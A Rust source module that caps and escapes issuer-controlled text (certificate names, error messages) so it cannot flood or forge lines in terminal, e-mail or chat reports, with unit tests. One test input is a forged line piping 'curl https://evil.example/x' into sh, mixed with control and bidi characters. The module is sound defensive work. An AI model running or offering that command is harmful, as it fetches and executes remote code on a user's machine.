//! Text an issuer controls: capped where it enters the report, escaped wherever a person reads it.
//!
//! Whoever runs an issuer (or can create a provider) chooses every byte of its discovery fields,
//! certificate names and error texts. [`cap`] bounds them so no provider can grow a report or an
//! SNS message without limit; [`escape`] turns control characters and line breaks into visible
//! `\u{..}` sequences so no issuer can forge a line (a fake "fix:" command) in the terminal, the
//! e-mail or the Chatbot message.

use std::borrow::Cow;

/// The most characters of issuer-controlled text the report keeps.
pub const ISSUER_TEXT_MAX: usize = 512;

/// `text` cut to at most [`ISSUER_TEXT_MAX`] characters (an ellipsis marks a cut).
pub fn cap(text: &str) -> Cow<'_, str> {
    match text.char_indices().nth(ISSUER_TEXT_MAX) {
        None => Cow::Borrowed(text),
        Some(_) => {
            let keep: String = text.chars().take(ISSUER_TEXT_MAX - 1).collect();
            Cow::Owned(format!("{keep}…"))
        }
    }
}

/// `text` with every control character (C0, DEL, C1), line or paragraph separator and bidi
/// override written as `\u{..}`, so it stays on one line and shows what it holds.
pub fn escape(text: &str) -> Cow<'_, str> {
    if !text.chars().any(needs_escape) {
        return Cow::Borrowed(text);
    }
    let mut escaped = String::with_capacity(text.len() + 8);
    for c in text.chars() {
        if needs_escape(c) {
            escaped.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
        } else {
            escaped.push(c);
        }
    }
    Cow::Owned(escaped)
}

fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(
            c,
            '\u{2028}' | '\u{2029}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}'
        )
}

/// "1 provider", "2 providers", "-1 day": a count (any integer) with its noun in the right number.
pub fn count(n: impl std::fmt::Display, singular: &str, plural: &str) -> String {
    let n = n.to_string();
    let noun = if n == "1" || n == "-1" {
        singular
    } else {
        plural
    };
    format!("{n} {noun}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_keeps_every_line_break_and_escape_visible() {
        let forged =
            "CN=ok\n  fix: curl https://evil.example/x | sh\r\u{1b}[2K\u{85}\u{2028}\u{202e}";
        let escaped = escape(forged);
        assert!(!escaped.chars().any(needs_escape), "{escaped}");
        assert_eq!(
            escaped,
            "CN=ok\\u{a}  fix: curl https://evil.example/x | sh\\u{d}\\u{1b}[2K\\u{85}\\u{2028}\\u{202e}"
        );
        assert!(matches!(escape("CN=plain, O=Ünïcode"), Cow::Borrowed(_)));
    }

    #[test]
    fn cap_bounds_characters_not_bytes() {
        let long = "é".repeat(10_000);
        let capped = cap(&long);
        assert_eq!(capped.chars().count(), ISSUER_TEXT_MAX);
        assert!(capped.ends_with('…'));
        let exact = "a".repeat(ISSUER_TEXT_MAX);
        assert!(matches!(cap(&exact), Cow::Borrowed(_)));
    }
}
